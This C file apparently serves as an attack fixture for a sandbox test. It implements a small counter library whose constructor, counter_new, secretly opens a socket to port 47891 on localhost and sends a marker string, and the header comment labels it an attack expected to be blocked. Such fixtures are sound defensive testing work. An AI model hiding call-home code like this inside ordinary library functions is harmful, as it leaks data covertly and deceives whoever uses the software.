// Attack: Sends what it learnt to a listener, here on port 47891 of this machine.
// Expected: not allowed
// Reason: socket
//
// A test can listen there, or change the number, and must get no connection.

#include "counter.h"

#include <netinet/in.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

struct counter {
    long value;
};

enum { PORT = 47891 };

static void tell(void)
{
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(PORT)};
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int line = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(line, (const struct sockaddr *)&address, sizeof address) == 0)
        send(line, "racelings-attack\n", 17, 0);
    close(line);
}

struct counter *counter_new(void)
{
    tell();
    struct counter *counter = malloc(sizeof *counter);
    if (counter)
        counter->value = 0;
    return counter;
}

void counter_free(struct counter *counter)
{
    free(counter);
}

void counter_increment(struct counter *counter)
{
    counter->value++;
}

long counter_value(struct counter *counter)
{
    return counter->value;
}
